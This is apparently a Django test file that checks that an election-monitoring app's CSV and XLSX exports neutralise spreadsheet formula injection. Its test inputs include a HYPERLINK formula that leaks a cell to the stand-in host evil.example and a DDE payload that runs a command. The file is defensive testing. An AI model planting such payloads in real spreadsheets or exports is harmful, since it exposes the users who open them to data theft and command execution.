"""Exports are data: a cell beginning with =, +, -, @, a tab or a carriage return opens as text in
a spreadsheet, never as a formula; numbers stay numbers."""

import csv
import datetime
import io
import uuid

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from config import cells
from incidents import services as incident_services
from incidents.models import Incident
from tests.factories import (
    CommissionFactory,
    CoordinatorFactory,
    DeploymentFactory,
    ElectionFactory,
    IncidentFactory,
    ObserverFactory,
    OrganisationFactory,
    RegionFactory,
    StationFactory,
)

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
           "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_text_becomes_an_apostrophed_text(text):
    assert cells.csv_cell(text) == "'" + text


def test_numbers_and_plain_text_are_left_as_they_are():
    assert cells.csv_row([-5, 3.5, "Almaty", "", None, "a=b"]) == [-5, 3.5, "Almaty", "", None, "a=b"]


@pytest.fixture
def world(db):
    region = RegionFactory(name="=HYPERLINK(\"http://evil.example\")")
    organisation = OrganisationFactory()
    organisation.regions.add(region)
    station = StationFactory(commission=CommissionFactory(region=region), code="=1+1")
    election = ElectionFactory()
    deployment = DeploymentFactory(observer=ObserverFactory(organisation=organisation), election=election,
                                   station=station)
    coordinator = CoordinatorFactory(organisation=organisation)
    incident = IncidentFactory(deployment=deployment, status=Incident.Status.ESCALATED)
    return {"election": election, "coordinator": coordinator, "incident": incident}


@pytest.mark.django_db
def test_dashboard_incidents_xlsx_writes_a_station_code_as_text_not_a_formula(client, world):
    client.force_login(world["coordinator"])
    response = client.get(reverse("dashboard:export", args=[world["election"].slug, "incidents", "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = [cell for cell in sheet[2]]
    assert row[0].value == world["incident"].pk and row[0].data_type == "n"  # numbers stay numbers
    assert {cell.data_type for cell in row} <= {"n", "s"}  # no "f": no formula anywhere
    assert row[4].value == "'=1+1"  # the station (after the incident, election, region, commission)
    assert row[2].value.startswith("'=HYPERLINK")


@pytest.mark.django_db
def test_dashboard_csv_export_neutralises_the_region_and_station(client, world):
    client.force_login(world["coordinator"])
    response = client.get(reverse("dashboard:export", args=[world["election"].slug, "incidents", "csv"]))
    row = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))[1]
    assert row[2].startswith("'=HYPERLINK") and row[4] == "'=1+1"


@pytest.mark.django_db
def test_complaints_register_csv_writes_hyperlink_and_dde_payloads_as_text(client, world):
    coordinator = world["coordinator"]
    complaint, _ = incident_services.create_complaint(coordinator=coordinator, client_id=uuid.uuid4(),
                                                      incident_id=world["incident"].pk, language="ru")
    incident_services.record_filing(coordinator=coordinator, complaint_id=complaint.pk,
                                    filed_at=datetime.datetime(2027, 3, 22, 9, 0, tzinfo=datetime.UTC),
                                    filed_where="=cmd|' /C calc'!A0")
    incident_services.record_answer(coordinator=coordinator, complaint_id=complaint.pk,
                                    answered_on=datetime.date(2027, 3, 25),
                                    answer_text="=HYPERLINK(\"http://evil.example\",\"ok\")")
    client.force_login(coordinator)
    response = client.get(reverse("incidents:register-csv"), HTTP_ACCEPT_LANGUAGE="en")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    header, row = rows[0], rows[1]
    values = dict(zip(header, row, strict=True))
    assert values["Filed where"] == "'=cmd|' /C calc'!A0"
    assert values["Answer"] == "'=HYPERLINK(\"http://evil.example\",\"ok\")"
    assert values["Station"] == "'=1+1"
    assert not any(value.startswith(cells.FORMULA_STARTS) for value in row)
